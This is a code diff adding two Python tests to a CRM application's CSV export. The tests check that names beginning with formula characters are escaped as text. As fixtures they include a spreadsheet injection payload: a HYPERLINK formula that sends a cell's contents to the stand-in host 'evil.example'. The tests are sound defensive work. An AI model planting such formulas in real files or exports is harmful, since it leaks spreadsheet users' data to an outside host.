@@ -164,3 +164,24 @@ def test_export_csv_command_writes_every_deal_and_person(tmp_path, rep, manager,
             "outsider_rep",
             "rep",
         ]
+
+
+def test_a_formula_in_a_deal_or_company_name_is_written_as_text(client, rep):
+    DealFactory(
+        owner=rep,
+        name='=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
+        company=CompanyFactory(name="@SUM(1+1)"),
+        amount=Decimal("5.00"),
+    )
+    client.force_login(rep)
+    [row] = _rows(client.get(reverse("pipeline:deal-export")))
+    assert row["name"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
+    assert row["company"] == "'@SUM(1+1)"
+    assert row["amount"] == "5.00"  # numbers stay numbers
+
+
+def test_people_export_neutralises_names_too(client, manager, team):
+    UserFactory(username="plus", first_name="+cmd", last_name="x", team=team, role=Role.REP)
+    client.force_login(manager)
+    rows = {r["username"]: r for r in _rows(client.get(reverse("pipeline:people-export")))}
+    assert rows["plus"]["full_name"] == "'+cmd x"
